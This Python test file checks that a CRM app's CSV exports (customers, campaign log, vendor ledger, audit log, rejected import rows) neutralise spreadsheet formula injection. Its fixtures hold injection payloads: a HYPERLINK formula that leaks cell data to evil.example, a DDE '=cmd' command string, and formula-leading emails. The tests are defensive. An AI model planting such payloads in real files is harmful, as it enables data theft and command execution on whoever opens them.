"""Every CSV export neutralises cells a spreadsheet would run as a formula: the customers
export, `campaign log --csv` (also the campaign page's export), `vendor ledger --csv`, the
audit export (`audit --csv`, also the audit page's) and the import's rejected rows."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st
from sqlalchemy import Engine

from minicrm_desktop.cli.main import main as cli_main
from minicrm_desktop.services.access.actor import LOCAL_ADMIN, Actor, Role
from minicrm_desktop.services.access.audit import Action, record_now
from minicrm_desktop.services.core.csv_export import FORMULA_STARTS, csv_writer, neutralise
from minicrm_desktop.services.customers.queries import CustomerQuery, export_customers_csv
from minicrm_desktop.services.importing import import_customers
from minicrm_desktop.services.importing.report import ImportReport, RejectedRow
from tests.examples import examples
from tests.helpers import write_csv

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
# Addresses the import accepts that a spreadsheet would still read as a formula.
FORMULA_EMAILS = ["=1+2@evil.example", "-2+3@evil.example", "+cmd@evil.example"]
PEOPLE = (
    "email,name,phone,city,tags,subscribed,signup_date\n"
    f'{FORMULA_EMAILS[0]},"{HYPERLINK.replace(chr(34), chr(34) * 2)}",+91 9000 00001,'
    "@SUM(1+1),=vip|-new,yes,2024-01-01\n"
    f"{FORMULA_EMAILS[1]},Plain Name,-5,Pune,,yes,2024-01-01\n"
    f"{FORMULA_EMAILS[2]},+Plus,,-Minus,,yes,2024-01-01\n"
    "safe@example.com,Safe,,Pune,,yes,2024-01-01\n"
)


def main(argv: list[str]) -> int:
    return cli_main(argv, actor=LOCAL_ADMIN)


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _assert_no_formula(rows: list[list[str]]) -> None:
    cells = [cell for row in rows for cell in row]
    assert cells
    assert [c for c in cells if c.startswith(FORMULA_STARTS)] == []


def _population(engine: Engine, tmp_path: Path) -> None:
    report = import_customers(engine, write_csv(tmp_path / "people.csv", PEOPLE),
                              actor=LOCAL_ADMIN)
    assert report.rejected == []
    assert report.imported == 4


@settings(max_examples=examples(80), deadline=None, derandomize=True, database=None)
@given(st.lists(st.one_of(st.text(), st.integers(), st.sampled_from(FORMULA_STARTS)),
                max_size=6))
def test_no_written_text_cell_starts_a_formula(cells: list[object]) -> None:
    out = io.StringIO()
    csv_writer(out).writerow(cells)
    (row,) = _rows(out.getvalue()) or [[]]
    for written, original in zip(row, cells, strict=True):
        if isinstance(original, str):
            assert not written.startswith(FORMULA_STARTS)
            # Only what would run gets the apostrophe; nothing else changes.
            assert written == (f"'{original}" if original.startswith(FORMULA_STARTS)
                               else original)
        else:
            assert written == str(original)  # numbers stay numbers, -5 included


def test_neutralise_marks_each_formula_start() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralise(f"{start}1+1") == f"'{start}1+1"
    assert neutralise("a=1") == "a=1"
    assert neutralise("") == ""
    assert neutralise(-5) == -5


def test_the_customers_export(engine: Engine, tmp_path: Path) -> None:
    _population(engine, tmp_path)
    target = tmp_path / "customers.csv"
    assert export_customers_csv(engine, CustomerQuery(), target) == 4
    rows = _rows(target.read_text(encoding="utf-8"))
    _assert_no_formula(rows)
    flat = {cell for row in rows for cell in row}
    assert f"'{HYPERLINK}" in flat
    assert "'+91 9000 00001" in flat
    assert "'@SUM(1+1)" in flat
    assert {f"'{email}" for email in FORMULA_EMAILS} <= flat


def test_campaign_log_ledger_and_audit_from_the_command_line(
    engine: Engine, tmp_path: Path, capsys
) -> None:
    _population(engine, tmp_path)
    db_url = engine.url.render_as_string(hide_password=False)
    ledger = tmp_path / "ledger.db"
    rule = tmp_path / "rule.json"
    rule.write_text(json.dumps({"combinator": "and", "rules": []}), encoding="utf-8")
    assert main(["--db", db_url, "campaign", "send", "--name", "=cmd|' /C calc'!A0",
                 "--rule", str(rule), "--message", "Hi {name}", "--ledger", str(ledger),
                 "--vendor-success-rate", "1", "--retry-seconds", "0.001"]) == 0
    campaign_id = json.loads(capsys.readouterr().out)["campaign_id"]

    assert main(["--db", db_url, "campaign", "log", str(campaign_id), "--csv"]) == 0
    log = _rows(capsys.readouterr().out)
    _assert_no_formula(log)
    assert {f"'{email}" for email in FORMULA_EMAILS} <= {row[0] for row in log}

    assert main(["--db", db_url, "vendor", "ledger", "--ledger", str(ledger), "--csv"]) == 0
    entries = _rows(capsys.readouterr().out)
    _assert_no_formula(entries)
    assert {f"'{email}" for email in FORMULA_EMAILS} <= {row[2] for row in entries}

    # An account whose address a spreadsheet would run (the identity provider's to choose).
    odd = Actor(user_id=None, email="=HYPERLINK(\"x\")@evil.example", name="Odd",
                role=Role.ADMIN)
    record_now(engine, odd, Action.SEGMENT_CREATE, {"name": "-2+3"})
    assert main(["--db", db_url, "audit", "--csv"]) == 0
    audit = _rows(capsys.readouterr().out)
    _assert_no_formula(audit)
    header = audit[0]
    emails = {row[header.index("user_email")] for row in audit[1:]}
    assert "'=HYPERLINK(\"x\")@evil.example" in emails


def test_the_rejected_rows_file(tmp_path: Path) -> None:
    report = ImportReport(kind="customers")
    report.rejected.append(RejectedRow(line=2, column="name", reason="=HYPERLINK(\"x\")"))
    report.rejected.append(RejectedRow(line=3, column="-", reason="@bad"))
    target = tmp_path / "rejected.csv"
    report.write_rejections_csv(target)
    rows = _rows(target.read_text(encoding="utf-8"))
    _assert_no_formula(rows)
    assert rows[1] == ["2", "name", "'=HYPERLINK(\"x\")"]
